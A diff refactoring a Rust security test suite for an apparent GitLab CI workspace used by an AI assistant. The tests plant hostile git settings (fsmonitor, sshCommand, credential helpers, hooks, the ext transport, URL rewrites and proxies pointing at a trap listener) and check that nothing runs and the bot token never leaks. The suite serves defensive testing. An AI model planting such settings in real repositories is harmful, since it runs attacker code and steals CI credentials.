@@ -21,68 +21,23 @@ use std::os::unix::fs::PermissionsExt as _;
 use std::path::{Path, PathBuf};
 use std::sync::{Arc, Mutex};
 
-use axum::Router;
-use axum::extract::{Path as UrlPath, Request, State};
-use axum::response::Response;
-use axum::routing::any;
 use base64::Engine as _;
-use doubles::gitlab::faults::Faults;
-use doubles::gitlab::git_http::{GitAccess, basic_credentials, serve_git, unauthorized};
-use doubles::gitlab::repo::{FileChange, Repo, Signature};
-use doubles::gitlab::server::serve;
-use entrypoint::secret::Secret;
+use doubles::gitlab::repo::FileChange;
 use entrypoint::workspace::{
-    BranchPrefix, CheckoutTarget, CommitIdentity, GitAuth, GitDirError, Person, PushDestination,
-    PushOutcome, RemoteUrl, Workspace, WorkspaceError, WorkspaceSettings,
+    AssistantBranch, BranchPrefix, GitDirError, PushDestination, PushOutcome, Workspace,
+    WorkspaceError,
 };
-use tokio::net::TcpListener;
-use tokio::sync::oneshot;
 
-const BOT_TOKEN: &str = "glpat-trust-bot-token-8899";
-const JOB_TOKEN: &str = "glcbt-trust-job-token";
+use crate::support::git_remote::{BOT_TOKEN, GitServer, human, identity, issue, same_project_mr};
+
 const SANDBOX_UID: &str = "65534";
-
-#[derive(Clone)]
-struct Served {
-    repos: PathBuf,
-    access: GitAccess,
-}
-
-async fn git_route(
-    State(served): State<Served>,
-    UrlPath((group, rest)): UrlPath<(String, String)>,
-    request: Request,
-) -> Response {
-    let mut access = served.access.clone();
-    match basic_credentials(request.headers()) {
-        Some(credentials) if credentials.password == BOT_TOKEN => {}
-        Some(credentials) if credentials.password == JOB_TOKEN => access.can_push = false,
-        _ => return unauthorized(),
-    }
-    let Some((project, path_info)) = rest.split_once(".git/") else {
-        return unauthorized();
-    };
-    let repo = served.repos.join(&group).join(format!("{project}.git"));
-    serve_git(&repo, &format!("/{path_info}"), request, access).await
-}
 
 /// The GitLab double's git, a listener that must stay silent, and a CI checkout.
 struct World {
-    dir: tempfile::TempDir,
-    upstream: Repo,
-    base: String,
+    server: GitServer,
     trap: String,
     trapped: Arc<Mutex<Vec<u8>>>,
     work: PathBuf,
-    stop: Option<oneshot::Sender<()>>,
-}
-
-impl Drop for World {
-    fn drop(&mut self) {
-        if let Some(stop) = self.stop.take() {
-            let _ = stop.send(());
-        }
-    }
 }
 
 /// The program every planted setting names: it leaves a marker with its arguments and
@@ -96,42 +51,10 @@ fn evil_script(marker: &Path) -> String {
 
 impl World {
     async fn start() -> World {
-        let dir = tempfile::tempdir().unwrap();
+        let server = GitServer::start().await;
+        let dir = server.dir.path();
         // The sandbox uid must reach the checkout, as it does in a job.
-        std::fs::set_permissions(dir.path(), std::fs::Permissions::from_mode(0o755)).unwrap();
-        let upstream = Repo::init_bare(&dir.path().join("repos/group/proj.git"), "main").unwrap();
-        upstream
-            .commit(
-                "main",
-                &[FileChange::Write {
-                    path: "README.md".to_owned(),
-                    content: b"# proj\n".to_vec(),
-                }],
-                "Initial commit\n",
-                &Signature {
-                    name: "Human Dev".to_owned(),
-                    email: "dev@example.com".to_owned(),
-                },
-            )
-            .unwrap();
-        let served = Served {
-            repos: dir.path().join("repos"),
-            access: GitAccess {
-                username: "project_1_bot".to_owned(),
-                can_read: true,
-                can_push: true,
-                protected_branches: vec!["main".to_owned()],
-            },
-        };
-        let app = Router::new()
-            .route("/{group}/{*rest}", any(git_route))
-            .with_state(served);
-        let listener = TcpListener::bind("127.0.0.1:0").await.unwrap();
-        let base = format!("http://{}", listener.local_addr().unwrap());
-        let (stop, stopped) = oneshot::channel::<()>();
-        tokio::spawn(serve(listener, app, Faults::default(), async {
-            let _ = stopped.await;
-        }));
+        std::fs::set_permissions(dir, std::fs::Permissions::from_mode(0o755)).unwrap();
 
         // Whatever connects here was sent somewhere it should not have been.
         let trap_listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
@@ -150,29 +73,22 @@ impl World {
             }
         });
 
-        let evil = dir.path().join("evil.sh");
-        std::fs::write(&evil, evil_script(&dir.path().join("markers/ran"))).unwrap();
+        let evil = dir.join("evil.sh");
+        std::fs::write(&evil, evil_script(&dir.join("markers/ran"))).unwrap();
         std::fs::set_permissions(&evil, std::fs::Permissions::from_mode(0o755)).unwrap();
-        std::fs::create_dir(dir.path().join("markers")).unwrap();
-        std::fs::set_permissions(
-            dir.path().join("markers"),
-            std::fs::Permissions::from_mode(0o777),
-        )
-        .unwrap();
+        std::fs::create_dir(dir.join("markers")).unwrap();
+        std::fs::set_permissions(dir.join("markers"), std::fs::Permissions::from_mode(0o777))
+            .unwrap();
 
         // The runner's clone: umask 0000, job token in the URL.
-        let work = dir.path().join("work");
-        let url = format!(
-            "{}/group/proj.git",
-            base.replace("http://", &format!("http://gitlab-ci-token:{JOB_TOKEN}@"))
-        );
+        let work = dir.join("work");
         let status = std::process::Command::new("sh")
             .args([
                 "-c",
                 "umask 0000 && exec git clone --quiet \"$1\" \"$2\"",
                 "sh",
             ])
-            .arg(&url)
+            .arg(server.ci_clone_url())
             .arg(&work)
             .env("GIT_CONFIG_NOSYSTEM", "1")
             .env("GIT_CONFIG_GLOBAL", "/dev/null")
@@ -190,27 +106,25 @@ impl World {
             "the checkout is world-writable, as in CI"
         );
         World {
-            dir,
-            upstream,
-            base,
+            server,
             trap,
             trapped,
             work,
-            stop: Some(stop),
         }
     }
 
     fn path(&self, relative: &str) -> PathBuf {
-        self.dir.path().join(relative)
+        self.server.path(relative)
     }
 
-    /// `text` with `EVIL` (the marker program), `BASE` (the double's URL), `TRAP` (the silent
-    /// listener's address) and `DIR` (the test's directory) filled in.
+    /// `text` with `EVIL` (the marker program), `WORK` (the checkout), `BASE` (the double's
+    /// URL), `TRAP` (the silent listener's address) and `DIR` (the test's directory) filled in.
     fn fill(&self, text: &str) -> String {
         text.replace("EVIL", &self.path("evil.sh").display().to_string())
-            .replace("BASE", &self.base)
+            .replace("WORK", &self.work.display().to_string())
+            .replace("BASE", &self.server.base)
             .replace("TRAP", &self.trap)
-            .replace("DIR", &self.dir.path().display().to_string())
+            .replace("DIR", &self.server.dir.path().display().to_string())
     }
 
     /// Runs `script` as the sandbox uid in the checkout, with `$1`.. as `args`.
@@ -256,34 +170,31 @@ impl World {
         );
     }
 
+    /// The sandbox uid writes each of `hooks` into `dir` (under the checkout): a script that
+    /// runs the marker program.
+    fn plant_hooks(&self, dir: &str, hooks: &[&str]) {
+        for hook in hooks {
+            self.plant_file(
+                &format!("{dir}/{hook}"),
+                &format!("#!/bin/sh\nexec EVIL {hook}\n"),
+                "0755",
+            );
+        }
+    }
+
+    /// The sandbox uid sets `attributes` for every file, in the checkout's `.gitattributes`
+    /// and in `.git/info/attributes`.
+    fn plant_attributes(&self, attributes: &str) {
+        for file in [".gitattributes", ".git/info/attributes"] {
+            self.plant_file(file, attributes, "0644");
+        }
+    }
+
+    /// The product's workspace on the checkout, on a new branch `claude/work` for an issue.
     async fn open(&self) -> Workspace {
-        let settings = WorkspaceSettings::new(
-            BranchPrefix::new("claude/").unwrap(),
-            Person {
-                name: "Claude".to_owned(),
-                email: "noreply@gitlab.test".to_owned(),
-            },
-            None,
-        );
-        let mut workspace = Workspace::open(
-            &self.work,
-            RemoteUrl::parse("test", &format!("{}/group/proj.git", self.base)).unwrap(),
-            GitAuth::token(&Secret::new(BOT_TOKEN)),
-            settings,
-        )
-        .await
-        .unwrap();
-        workspace
-            .checkout(CheckoutTarget::Issue {
-                default_branch: "main".to_owned(),
-            })
-            .await
-            .unwrap();
-        let branch = BranchPrefix::new("claude/")
-            .unwrap()
-            .branch("work")
-            .unwrap();
-        workspace.start_branch(&branch).await.unwrap();
+        let mut workspace = self.server.open(&self.work).await;
+        workspace.checkout(issue()).await.unwrap();
+        workspace.start_branch(&work_branch()).await.unwrap();
         workspace
     }
 
@@ -302,7 +213,7 @@ impl World {
             String::from_utf8_lossy(&trapped)
         );
         let basic = base64::engine::general_purpose::STANDARD.encode(format!("oauth2:{BOT_TOKEN}"));
-        for file in files_under(self.dir.path()) {
+        for file in files_under(self.server.dir.path()) {
             if file.starts_with(self.path("repos")) {
                 continue;
             }
@@ -340,14 +251,12 @@ fn files_under(dir: &Path) -> Vec<PathBuf> {
     files
 }
 
-fn identity() -> CommitIdentity {
-    CommitIdentity {
-        author: Person {
-            name: "Claude".to_owned(),
-            email: "noreply@gitlab.test".to_owned(),
-        },
-        co_author: None,
-    }
+/// The branch the assistant works on: `claude/work`.
+fn work_branch() -> AssistantBranch {
+    BranchPrefix::new("claude/")
+        .unwrap()
+        .branch("work")
+        .unwrap()
 }
 
 /// The post-run flow of `run::changes::publish`, plus the patch it posts when a push fails.
@@ -358,11 +267,9 @@ async fn publish(workspace: &Workspace) -> Result<(String, PushOutcome), Workspa
         .commit(&identity(), "Add the work")
         .await?
         .expect("a commit");
-    let branch = BranchPrefix::new("claude/")
-        .unwrap()
-        .branch("work")
-        .unwrap();
-    let outcome = workspace.push(&PushDestination::NewBranch(branch)).await?;
+    let outcome = workspace
+        .push(&PushDestination::NewBranch(work_branch()))
+        .await?;
     workspace.patch().await?;
     Ok((sha, outcome))
 }
@@ -382,19 +289,53 @@ async fn attack(plant: impl FnOnce(&World)) {
             sha: sha.clone()
         }
     );
-    assert_eq!(world.upstream.branch_sha("claude/work").unwrap(), Some(sha));
+    assert_eq!(
+        world.server.upstream.branch_sha("claude/work").unwrap(),
+        Some(sha)
+    );
     world.assert_nothing_escaped();
 }
 
-#[tokio::test(flavor = "multi_thread")]
-async fn core_fsmonitor_does_not_run() {
-    attack(|w| w.plant_config("[core]\n\tfsmonitor = EVIL\n")).await;
+/// One test per configuration that the sandbox uid appends to `.git/config` and that names
+/// the marker program or the silent listener: [`attack`] with it.
+macro_rules! planted_configuration_is_harmless {
+    ($($test:ident: $config:expr,)*) => {$(
+        #[tokio::test(flavor = "multi_thread")]
+        async fn $test() {
+            attack(|w| w.plant_config($config)).await;
+        }
+    )*};
+}
+
+planted_configuration_is_harmless! {
+    core_fsmonitor_does_not_run:
+        "[core]\n\tfsmonitor = EVIL\n",
+    core_ssh_command_does_not_run:
+        "[url \"ssh://git@TRAP/\"]\n\tinsteadOf = BASE/\n\tpushInsteadOf = BASE/\n[core]\n\tsshCommand = EVIL\n",
+    pagers_and_editors_do_not_run:
+        "[core]\n\tpager = EVIL\n\teditor = EVIL\n[pager]\n\tstatus = EVIL\n\tdiff = EVIL\n\tformat-patch = EVIL\n[sequence]\n\teditor = EVIL\n",
+    credential_helpers_and_askpass_do_not_run:
+        "[credential]\n\thelper = !EVIL\n[credential \"BASE\"]\n\thelper = !EVIL\n[core]\n\taskPass = EVIL\n",
+    the_ext_transport_does_not_run:
+        "[protocol \"ext\"]\n\tallow = always\n[protocol]\n\tallow = always\n[url \"ext::EVIL \"]\n\tinsteadOf = BASE/\n\tpushInsteadOf = BASE/\n",
+    remote_programs_and_urls_are_not_used:
+        "[remote \"origin\"]\n\turl = http://TRAP/group/proj.git\n\tpushurl = http://TRAP/group/proj.git\n\tuploadpack = EVIL\n\treceivepack = EVIL\n[remote \"BASE/group/proj.git\"]\n\treceivepack = EVIL\n\tpushurl = http://TRAP/group/proj.git\n",
+    signing_programs_do_not_run:
+        "[commit]\n\tgpgSign = true\n[tag]\n\tgpgSign = true\n[push]\n\tgpgSign = true\n[gpg]\n\tprogram = EVIL\n[gpg \"ssh\"]\n\tprogram = EVIL\n[gpg \"x509\"]\n\tprogram = EVIL\n",
+    git_proxy_and_pack_hooks_do_not_run:
+        "[core]\n\tgitProxy = EVIL\n[url \"git://TRAP/\"]\n\tinsteadOf = BASE/\n[uploadpack]\n\tpackObjectsHook = EVIL\n",
+    aliases_do_not_replace_commands:
+        "[alias]\n\tstatus = !EVIL\n\tadd = !EVIL\n\tcommit = !EVIL\n\tpush = !EVIL\n\tformat-patch = !EVIL\n",
+    an_http_proxy_does_not_receive_the_token:
+        "[http]\n\tproxy = http://TRAP\n\tcookieFile = DIR/markers/cookies\n\tsaveCookies = true\n[http \"BASE/\"]\n\tproxy = http://TRAP\n\textraHeader = X-Planted: 1\n",
+    a_rewritten_url_does_not_receive_the_token:
+        "[url \"http://TRAP/\"]\n\tinsteadOf = BASE/\n\tpushInsteadOf = BASE/\n[http]\n\tfollowRedirects = true\n",
 }
 
 #[tokio::test(flavor = "multi_thread")]
 async fn hooks_dropped_in_git_hooks_do_not_run() {
     attack(|w| {
-        for hook in [
+        let hooks = [
             "pre-commit",
             "prepare-commit-msg",
             "commit-msg",
@@ -404,13 +345,8 @@ async fn hooks_dropped_in_git_hooks_do_not_run() {
             "post-index-change",
             "post-checkout",
             "fsmonitor-watchman",
-        ] {
-            w.plant_file(
-                &format!(".git/hooks/{hook}"),
-                &format!("#!/bin/sh\nexec EVIL {hook}\n"),
-                "0755",
-            );
-        }
+        ];
+        w.plant_hooks(".git/hooks", &hooks);
     })
     .await;
 }
@@ -418,52 +354,14 @@ async fn hooks_dropped_in_git_hooks_do_not_run() {
 #[tokio::test(flavor = "multi_thread")]
 async fn core_hooks_path_does_not_run() {
     attack(|w| {
-        for hook in [
+        let hooks = [
             "pre-commit",
             "post-commit",
             "pre-push",
             "reference-transaction",
-        ] {
-            w.plant_file(
-                &format!("planted-hooks/{hook}"),
-                &format!("#!/bin/sh\nexec EVIL {hook}\n"),
-                "0755",
-            );
-        }
-        w.plant_config(&format!(
-            "[core]\n\thooksPath = {}/planted-hooks\n",
-            w.work.display()
-        ));
-    })
-    .await;
-}
-
-#[tokio::test(flavor = "multi_thread")]
-async fn core_ssh_command_does_not_run() {
-    attack(|w| {
-        w.plant_config(
-            "[url \"ssh://git@TRAP/\"]\n\tinsteadOf = BASE/\n\tpushInsteadOf = BASE/\n[core]\n\tsshCommand = EVIL\n",
-        )
-    })
-    .await;
-}
-
-#[tokio::test(flavor = "multi_thread")]
-async fn pagers_and_editors_do_not_run() {
-    attack(|w| {
-        w.plant_config(
-            "[core]\n\tpager = EVIL\n\teditor = EVIL\n[pager]\n\tstatus = EVIL\n\tdiff = EVIL\n\tformat-patch = EVIL\n[sequence]\n\teditor = EVIL\n",
-        )
-    })
-    .await;
-}
-
-#[tokio::test(flavor = "multi_thread")]
-async fn credential_helpers_and_askpass_do_not_run() {
-    attack(|w| {
-        w.plant_config(
-            "[credential]\n\thelper = !EVIL\n[credential \"BASE\"]\n\thelper = !EVIL\n[core]\n\taskPass = EVIL\n",
-        )
+        ];
+        w.plant_hooks("planted-hooks", &hooks);
+        w.plant_config("[core]\n\thooksPath = WORK/planted-hooks\n");
     })
     .await;
 }
@@ -476,10 +374,9 @@ async fn included_configuration_is_not_read() {
             "[core]\n\tfsmonitor = EVIL\n[url \"http://TRAP/\"]\n\tinsteadOf = BASE/\n",
             "0644",
         );
-        w.plant_config(&format!(
-            "[include]\n\tpath = {0}/planted.config\n[includeIf \"gitdir:/\"]\n\tpath = {0}/planted.config\n[includeIf \"onbranch:*\"]\n\tpath = {0}/planted.config\n",
-            w.work.display()
-        ));
+        w.plant_config(
+            "[include]\n\tpath = WORK/planted.config\n[includeIf \"gitdir:/\"]\n\tpath = WORK/planted.config\n[includeIf \"onbranch:*\"]\n\tpath = WORK/planted.config\n",
+        );
     })
     .await;
 }
@@ -490,8 +387,7 @@ async fn filter_drivers_do_not_run() {
         w.plant_config(
             "[filter \"x\"]\n\tclean = EVIL\n\tsmudge = EVIL\n\tprocess = EVIL\n\trequired = false\n",
         );
-        w.plant_file(".gitattributes", "* filter=x\n", "0644");
-        w.plant_file(".git/info/attributes", "* filter=x\n", "0644");
+        w.plant_attributes("* filter=x\n");
     })
     .await;
 }
@@ -502,78 +398,7 @@ async fn diff_and_merge_drivers_do_not_run() {
         w.plant_config(
             "[diff]\n\texternal = EVIL\n[diff \"x\"]\n\ttextconv = EVIL\n\tcommand = EVIL\n[merge \"x\"]\n\tdriver = EVIL\n",
         );
-        w.plant_file(".gitattributes", "* diff=x merge=x\n", "0644");
-        w.plant_file(".git/info/attributes", "* diff=x merge=x\n", "0644");
-    })
-    .await;
-}
-
-#[tokio::test(flavor = "multi_thread")]
-async fn the_ext_transport_does_not_run() {
-    attack(|w| {
-        w.plant_config(
-            "[protocol \"ext\"]\n\tallow = always\n[protocol]\n\tallow = always\n[url \"ext::EVIL \"]\n\tinsteadOf = BASE/\n\tpushInsteadOf = BASE/\n",
-        )
-    })
-    .await;
-}
-
-#[tokio::test(flavor = "multi_thread")]
-async fn remote_programs_and_urls_are_not_used() {
-    attack(|w| {
-        w.plant_config(
-            "[remote \"origin\"]\n\turl = http://TRAP/group/proj.git\n\tpushurl = http://TRAP/group/proj.git\n\tuploadpack = EVIL\n\treceivepack = EVIL\n[remote \"BASE/group/proj.git\"]\n\treceivepack = EVIL\n\tpushurl = http://TRAP/group/proj.git\n",
-        )
-    })
-    .await;
-}
-
-#[tokio::test(flavor = "multi_thread")]
-async fn signing_programs_do_not_run() {
-    attack(|w| {
-        w.plant_config(
-            "[commit]\n\tgpgSign = true\n[tag]\n\tgpgSign = true\n[push]\n\tgpgSign = true\n[gpg]\n\tprogram = EVIL\n[gpg \"ssh\"]\n\tprogram = EVIL\n[gpg \"x509\"]\n\tprogram = EVIL\n",
-        )
-    })
-    .await;
-}
-
-#[tokio::test(flavor = "multi_thread")]
-async fn git_proxy_and_pack_hooks_do_not_run() {
-    attack(|w| {
-        w.plant_config(
-            "[core]\n\tgitProxy = EVIL\n[url \"git://TRAP/\"]\n\tinsteadOf = BASE/\n[uploadpack]\n\tpackObjectsHook = EVIL\n",
-        )
-    })
-    .await;
-}
-
-#[tokio::test(flavor = "multi_thread")]
-async fn aliases_do_not_replace_commands() {
-    attack(|w| {
-        w.plant_config(
-            "[alias]\n\tstatus = !EVIL\n\tadd = !EVIL\n\tcommit = !EVIL\n\tpush = !EVIL\n\tformat-patch = !EVIL\n",
-        )
-    })
-    .await;
-}
-
-#[tokio::test(flavor = "multi_thread")]
-async fn an_http_proxy_does_not_receive_the_token() {
-    attack(|w| {
-        w.plant_config(
-            "[http]\n\tproxy = http://TRAP\n\tcookieFile = DIR/markers/cookies\n\tsaveCookies = true\n[http \"BASE/\"]\n\tproxy = http://TRAP\n\textraHeader = X-Planted: 1\n",
-        )
-    })
-    .await;
-}
-
-#[tokio::test(flavor = "multi_thread")]
-async fn a_rewritten_url_does_not_receive_the_token() {
-    attack(|w| {
-        w.plant_config(
-            "[url \"http://TRAP/\"]\n\tinsteadOf = BASE/\n\tpushInsteadOf = BASE/\n[http]\n\tfollowRedirects = true\n",
-        )
+        w.plant_attributes("* diff=x merge=x\n");
     })
     .await;
 }
@@ -641,7 +466,10 @@ async fn refused(swap: &str) {
         matches!(error, WorkspaceError::GitDir(GitDirError::Replaced { .. })),
         "{error}"
     );
-    assert_eq!(world.upstream.branch_sha("claude/work").unwrap(), None);
+    assert_eq!(
+        world.server.upstream.branch_sha("claude/work").unwrap(),
+        None
+    );
     world.assert_nothing_escaped();
 }
 
@@ -692,30 +520,27 @@ async fn a_config_turned_into_a_link_is_replaced_without_writing_through_it() {
 #[tokio::test(flavor = "multi_thread")]
 async fn a_merge_requests_configuration_is_swapped_and_never_committed() {
     use entrypoint::agent::Assistant;
-    use entrypoint::workspace::MergeRequestSource;
 
     let world = World::start().await;
-    let human = Signature {
-        name: "Human Dev".to_owned(),
-        email: "dev@example.com".to_owned(),
+    let upstream = &world.server.upstream;
+    let files = |files: &[(&str, &str)]| {
+        files
+            .iter()
+            .map(|(path, content)| FileChange::write(*path, *content))
+            .collect::<Vec<_>>()
     };
-    let file = |path: &str, content: &str| FileChange::Write {
-        path: path.to_owned(),
-        content: content.as_bytes().to_vec(),
-    };
-    world
-        .upstream
+    upstream
         .commit(
             "main",
-            &[
-                file("CLAUDE.md", "target rules @docs/style.md\n"),
-                file("docs/style.md", "target style\n"),
-            ],
+            &files(&[
+                ("CLAUDE.md", "target rules @docs/style.md\n"),
+                ("docs/style.md", "target style\n"),
+            ]),
             "Rules\n",
-            &human,
+            &human(),
         )
         .unwrap();
-    world.upstream.create_branch("feature", "main").unwrap();
+    upstream.create_branch("feature", "main").unwrap();
     let mr_files = [
         ("CLAUDE.md", "mr rules\n"),
         ("docs/style.md", "mr style\n"),
@@ -724,39 +549,12 @@ async fn a_merge_requests_configuration_is_swapped_and_never_committed() {
         ("src/CLAUDE.md", "nested mr rules\n"),
         ("src/lib.txt", "code\n"),
     ];
-    let sha = world
-        .upstream
-        .commit(
-            "feature",
-            &mr_files.iter().map(|(p, c)| file(p, c)).collect::<Vec<_>>(),
-            "Feature\n",
-            &human,
-        )
+    let sha = upstream
+        .commit("feature", &files(&mr_files), "Feature\n", &human())
         .unwrap();
-    let settings = WorkspaceSettings::new(
-        BranchPrefix::new("claude/").unwrap(),
-        Person {
-            name: "Claude".to_owned(),
-            email: "noreply@gitlab.test".to_owned(),
-        },
-        None,
-    );
-    let mut workspace = Workspace::open(
-        &world.work,
-        RemoteUrl::parse("test", &format!("{}/group/proj.git", world.base)).unwrap(),
-        GitAuth::token(&Secret::new(BOT_TOKEN)),
-        settings,
-    )
-    .await
-    .unwrap();
+    let mut workspace = world.server.open(&world.work).await;
     workspace
-        .checkout(CheckoutTarget::MergeRequest {
-            source_branch: "feature".to_owned(),
-            sha: sha.clone(),
-            target_branch: "main".to_owned(),
-            default_branch: "main".to_owned(),
-            source: MergeRequestSource::SameProject,
-        })
+        .checkout(same_project_mr("feature", &sha))
         .await
         .unwrap();
     let swap = workspace
@@ -831,7 +629,7 @@ async fn a_merge_requests_configuration_is_swapped_and_never_committed() {
     let PushOutcome::Pushed { sha: pushed, .. } = outcome else {
         panic!("{outcome:?}");
     };
-    let diffs = world.upstream.diffs(&sha, &pushed).unwrap();
+    let diffs = upstream.diffs(&sha, &pushed).unwrap();
     assert_eq!(
         diffs
             .iter()
